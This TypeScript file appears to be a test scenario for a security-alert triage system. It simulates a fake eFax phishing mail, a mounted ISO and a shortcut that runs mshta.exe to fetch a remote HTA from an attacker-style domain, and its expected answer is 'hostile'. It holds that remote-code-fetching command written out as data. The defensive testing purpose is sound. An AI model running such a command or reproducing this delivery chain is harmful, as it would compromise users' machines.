// A fax that was none: a mail, a mounted image, and a shortcut that calls a command domain.
import { alert, by, connected, hostile, ran, situation } from '../../shorthand.ts'

export const faxImageShortcut = situation(
  'fax-image-shortcut',
  'chains',
  'A fax, a mounted image and a shortcut',
  (setting) => {
    const greta = setting.person('greta.engman')
    const laptop = setting.laptopOf('greta.engman')
    const mailed = setting.ago({ hours: 1, minutes: 40 })
    const mounted = setting.ago({ hours: 1, minutes: 2 })
    const started = setting.ago({ hours: 1 })
    const url = 'https://cdn3.sync-officedocs.com/f/fax.hta'
    const command = `mshta.exe ${url}`
    return {
      alerts: [
        alert(
          setting,
          mailed,
          'barracuda',
          'Attachment of a rare type delivered',
          `{"src_ip":"46.30.213.88","hdr_from":"eFax <noreply@faxbote-online.de>","env_from":"bounce@faxbote-online.de","account_id":"HVS","domain_id":"1188","recipients":[{"email":"${greta.email}","action":"allowed","reason":"","delivery":"delivered"}],"subject":"Fax 4 Seiten","attachments":[{"name":"Fax_4_Seiten.html"}],"timestamp":"${setting.iso(mailed)}"}`,
        ),
        alert(
          setting,
          mounted,
          'sysmon',
          'Disk image mounted from a download folder',
          `host=${laptop.host} user=HAVSKOG\\${greta.account} image="C:\\Users\\${greta.account}\\Downloads\\Fax_4_Seiten.iso" drive=F: time=${setting.iso(mounted)}`,
        ),
        alert(setting, started, 'elastic', 'Shortcut in a mounted image started a script host', {
          '@timestamp': setting.iso(started),
          event: { kind: 'alert', module: 'endpoint', action: 'start', outcome: 'success' },
          'kibana.alert.rule.name': 'Suspicious Execution from a Mounted Device',
          'kibana.alert.severity': 'medium',
          host: { name: laptop.host, hostname: laptop.host, ip: [laptop.ip], os: { type: 'windows' } },
          user: { name: greta.account, domain: 'HAVSKOG' },
          process: {
            name: 'mshta.exe',
            command_line: command,
            working_directory: 'F:\\',
            parent: { name: 'explorer.exe', command_line: 'explorer.exe' },
          },
        }),
      ],
      facts: {
        telemetry: [
          ran(laptop, started, 'mshta.exe', command, { ...by(greta), InitiatingProcessFileName: 'explorer.exe' }),
          connected(laptop, started + 2000, '45.138.16.203', {
            RemoteUrl: 'cdn3.sync-officedocs.com',
            InitiatingProcessFileName: 'mshta.exe',
            InitiatingProcessCommandLine: command,
          }),
        ],
      },
      expected: hostile(laptop.host),
      because:
        'The script host fetched a page under a domain that serves a backdoor today, and the endpoint platform saw the connection leave this laptop for a known command server. The mail and the mounted image show how it came there.',
    }
  },
)
